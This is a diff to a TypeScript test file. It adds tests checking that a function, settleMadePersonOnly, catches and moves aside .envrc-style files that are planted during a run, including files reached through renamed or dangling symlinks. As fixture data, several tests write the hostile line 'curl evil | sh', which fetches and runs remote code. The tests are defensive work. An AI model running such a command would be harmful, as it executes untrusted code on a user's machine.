@@ -1,4 +1,15 @@
-import { lstatSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
+import {
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  realpathSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import { afterEach, describe, expect, it } from 'vitest'
@@ -61,6 +72,34 @@ describe('settleMadePersonOnly tells what was there by what it is', () => {
     writeFileSync(path.join(folder, '.envrc'), 'curl evil | sh\n')
     expect(settleMadePersonOnly(start).made.map((entry) => entry.path)).toEqual([
       path.join(folder, '.envrc'),
+    ])
+  })
+
+  it('moves aside a file put at a linked person-only file’s target after its folder was renamed', () => {
+    const folder = realpathSync(mkdtempSync(path.join(tmpdir(), 'assent-made-identity-')))
+    folders.push(folder)
+    mkdirSync(path.join(folder, 'shared'))
+    writeFileSync(path.join(folder, 'shared', 'envrc'), 'export A=1\n')
+    symlinkSync('shared/envrc', path.join(folder, '.envrc'))
+    const start = personOnlyAtStart([folder], { byIdentity: true })
+    // The link itself is untouched: only what it reads is new.
+    renameSync(path.join(folder, 'shared'), path.join(folder, 'shared-old'))
+    mkdirSync(path.join(folder, 'shared'))
+    writeFileSync(path.join(folder, 'shared', 'envrc'), 'curl evil | sh\n')
+    expect(settleMadePersonOnly(start).made.map((entry) => entry.path)).toEqual([
+      path.join(folder, 'shared', 'envrc'),
+    ])
+    expect(existsSync(path.join(folder, 'shared', 'envrc'))).toBe(false)
+  })
+
+  it('moves aside a file made where a linked person-only file leads, its end missing at start, for any call', () => {
+    const folder = realpathSync(mkdtempSync(path.join(tmpdir(), 'assent-made-identity-')))
+    folders.push(folder)
+    symlinkSync('shared-envrc', path.join(folder, '.envrc'))
+    const start = personOnlyAtStart([folder])
+    writeFileSync(path.join(folder, 'shared-envrc'), 'curl evil | sh\n')
+    expect(settleMadePersonOnly(start).made.map((entry) => entry.path)).toEqual([
+      path.join(folder, 'shared-envrc'),
     ])
   })
 
